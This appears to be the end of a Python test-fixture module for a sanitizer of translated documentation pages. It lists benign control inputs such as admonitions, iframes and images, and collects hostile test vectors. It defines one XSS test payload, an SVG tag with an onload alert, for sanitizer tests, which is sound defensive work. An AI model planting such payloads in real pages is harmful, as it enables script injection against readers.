    _vector("ctl-admonition", "control", "body",
            '!!! note "Obs"\n    Kontrollera betalningen.\n\n!!! warning\n    Var försiktig.', rule=None,
            english='!!! note "Note"\n    Check the payment.\n\n!!! warning\n    Be careful.',
            visible=INTRO + "Obs\nKontrollera betalningen.\nWarning\nVar försiktig."),
    _vector("ctl-attr-list", "control", "body",
            "## Rubrik {: #egen-rubrik .viktig }\n\nEtt stycke.\n{: .lead }\n\n[Länk](#egen-rubrik){: .md-button }",
            rule=None, english="## Heading {: #egen-rubrik .viktig }\n\nA paragraph.\n{: .lead }\n\n"
                               "[Link](#egen-rubrik){: .md-button }",
            visible=INTRO + "Rubrik\nEtt stycke.\nLänk"),
    _vector("ctl-md-in-html", "control", "body",
            '<div class="grid" markdown>\n\n**Fet** text och [en länk](#).\n\n</div>', rule=None,
            english='<div class="grid" markdown>\n\n**Bold** text and [a link](#).\n\n</div>',
            visible=INTRO + "Fet text och en länk."),
    _vector("ctl-youtube-iframe", "control", "body",
            '<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/x" title="Video" '
            "allowfullscreen></iframe>\n\nSe videon.", rule=None,
            english='<iframe width="560" height="315" src="https://www.youtube-nocookie.com/embed/x" title="Video" '
                    "allowfullscreen></iframe>\n\nWatch the video.",
            visible=INTRO + "Se videon."),
    _vector("ctl-same-host-link", "control", "body",
            "Läs [dokumentationen](https://learn.microsoft.com/sv-se/azure/) eller "
            "[mejla oss](mailto:support@example.com).", rule=None,
            english="Read [the docs](https://learn.microsoft.com/en-us/azure/) or "
                    "[mail us](mailto:support@example.com).",
            visible=INTRO + "Läs dokumentationen eller mejla oss."),
    _vector("ctl-english-remote-image", "control", "body",
            "![status](https://status.example.com/badge.svg) Status.", rule=None,
            english="![status](https://status.example.com/badge.svg) Status.", visible=INTRO + "Status."),
    _vector("ctl-tasks-and-details", "control", "body",
            '- [x] Klart\n- [ ] Kvar\n\n??? note "Mer"\n    Dold text.', rule=None,
            english='- [x] Done\n- [ ] Left\n\n??? note "More"\n    Hidden text.',
            visible=INTRO + "Klart\nKvar\nMer"),
    _vector("ctl-inline-elements", "control", "body",
            ":material-check: Klart. Tryck <kbd>Ctrl</kbd>+<kbd>C</kbd>. H<sub>2</sub>O och x<sup>2</sup> i HTML.\n\n"
            "*[HTML]: Hyper Text Markup Language", rule=None,
            english=":material-check: Done. Press <kbd>Ctrl</kbd>+<kbd>C</kbd>. H<sub>2</sub>O and x<sup>2</sup> in "
                    "HTML.\n\n*[HTML]: Hyper Text Markup Language",
            visible=INTRO + "Klart. Tryck Ctrl+C. H2O och x2 i HTML."),
    _vector("ctl-local-image", "control", "body", "![Bild](media/pixel.png) En bild.", rule=None,
            english="![Picture](media/pixel.png) A picture.", visible=INTRO + "En bild."),
    _vector("ctl-english-inline-script", "control", "body", "<script>console.log('english analytics')</script>\n\n"
            "Statistik.", rule=None, english="<script>console.log('english analytics')</script>\n\nAnalytics.",
            visible=INTRO + "Statistik."),
    _vector("ctl-handoff-machine-translated", "control", "handoff-control", "", rule=None, mt=True,
            visible="Den här sidan har maskinöversatts.\nVisa det engelska originalet\nTestartikel\n"
                    "Följ stegen. Betala saldot.\nSteg\nKontakta supporten.",
            originals=("Follow the steps.", "Pay the balance.", "Contact support.")),
    _vector("ctl-allowed-host", "control", "body", f"Se [GitHub-dokumentationen](https://{ALLOWED_HOST}/sv).",
            rule=None, visible=INTRO + "Se GitHub-dokumentationen."),
]

VECTORS: list[Vector] = [*ELEMENTS, *BASE_META, *FORMS, *STYLES, *IMAGES, *SCHEMES, *ATTR_LIST, *EVENTS, *PARSER,
                         *SVG, *MATHML, *RAWTEXT, *FRONT_MATTER, *HANDOFFS, *XLIFF, *CODE_SWAP, *FILE_EXTENSIONS,
                         *HOSTS]
"""The hostile vectors (not the controls)."""

ALL: list[Vector] = [*VECTORS, *CONTROLS]

VERSIONED_PAYLOAD = "<svg onload=\"alert('version-older')\"></svg>"
"""The payload of the hostile handoff that versions.yml's older version alone shows (tests/hostile_site.py)."""


def by_id(vector_id: str) -> Vector:
    return next(vector for vector in ALL if vector.id == vector_id)


def _unique() -> None:
    ids = [vector.id for vector in ALL]
    duplicates = sorted({vector_id for vector_id in ids if ids.count(vector_id) > 1})
    if duplicates:
        raise AssertionError(f"duplicate vector ids: {duplicates}")


_unique()
